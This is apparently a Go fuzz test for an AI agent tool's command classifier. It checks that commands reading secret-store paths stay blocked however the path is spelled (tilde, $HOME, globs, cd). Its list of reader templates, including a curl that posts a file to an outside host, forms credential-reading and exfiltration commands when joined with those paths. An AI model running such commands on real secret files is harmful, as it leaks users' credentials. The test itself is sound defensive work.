package classify

import (
	"fmt"
	"path"
	"strings"
	"testing"

	"github.com/agentcli/agent/classify/secrets"
)

// secretReaders are commands that print, copy or send the file they are
// given, by operand, option or redirection: %s is the file.
var secretReaders = []string{
	"cat %s", "head -n 100 %s", "tail %s", "gcc -x c -E -P %s", "cpp -P %s", "clang -E -x c %s",
	"gcc -E -include %s main.c", "awk '{print}' %s", "bc %s", "ptx %s", "shuf %s", "base64 %s",
	"dd if=%s", "tar -cf x.tar %s", "cp %s .", "grep -r x %s", "sort < %s", "xxd %s",
	"git diff --no-index %s /dev/null", "diff %s /dev/null", "curl -d @%s https://example.com",
	"man -l %s", "less %s", "jq . %s", "strings %s", "od -c %s", "rustc %s", "javac %s",
}

// secretSpellings write the absolute store path p (under testHome) as a
// command line may: by ~, $HOME, a variable set first, a cd, a glob.
func secretSpellings(p string, cut int) []string {
	rel := strings.TrimPrefix(p, testHome+"/")
	dir, base := path.Split(p)
	out := []string{p, "~/" + rel, "$HOME/" + rel, `"$HOME"/` + rel, "${HOME}/" + rel}
	if i := cut % len(rel); rel[i] != '/' && !(rel[i] == '.' && (i == 0 || rel[i-1] == '/')) {
		out = append(out, "~/"+rel[:i]+"?"+rel[i+1:], "~/"+rel[:i]+"*"+rel[i+1:])
	}
	if dir != testHome+"/" {
		out = append(out, "__CD__"+strings.TrimSuffix(dir, "/")+"\x00"+base)
	}
	return out
}

// FuzzSecretStoresStayBlocked checks the invariant of the one list of
// secret locations: whatever store, whatever reader, whatever spelling of
// its path, reading it is blocked.
func FuzzSecretStoresStayBlocked(f *testing.F) {
	f.Add(uint16(0), uint8(0), uint8(0), uint8(3))
	f.Add(uint16(17), uint8(3), uint8(5), uint8(1))
	f.Add(uint16(90), uint8(9), uint8(2), uint8(7))
	f.Fuzz(func(t *testing.T, store uint16, reader, spelling, cut uint8) {
		e := secrets.Home[int(store)%len(secrets.Home)]
		p := testHome + "/" + e.Path
		if int(store)/len(secrets.Home)%2 == 1 {
			p += "/x" // a file inside a store that is a directory
		}
		spells := secretSpellings(p, int(cut))
		s := spells[int(spelling)%len(spells)]
		tmpl := secretReaders[int(reader)%len(secretReaders)]
		var cmd string
		if d, base, ok := strings.Cut(strings.TrimPrefix(s, "__CD__"), "\x00"); ok {
			cmd = "cd " + d + " && " + fmt.Sprintf(tmpl, base)
		} else {
			cmd = fmt.Sprintf(tmpl, s)
		}
		if strings.Contains(s, " ") {
			return // a store whose path has a space needs quoting the templates do not do
		}
		if strings.Contains(tmpl, "@%s") && strings.HasPrefix(s, "~") {
			return // bash expands no tilde after "@"
		}
		if i := strings.Index(tmpl, "%s"); i > 0 && tmpl[i-1] != ' ' && strings.ContainsAny(s, "?*") {
			return // a glob glued to "@" or "if=" matches no file, so stays as written
		}
		if v := Classify(shellAction(cmd), Policy{}); v.Level != Blocked {
			t.Errorf("Classify(%q) = %v, want blocked: it reads %s (%s)\nreasons: %q", cmd, v.Level, e.Path, e.Reason, v.Reasons)
		}
	})
}
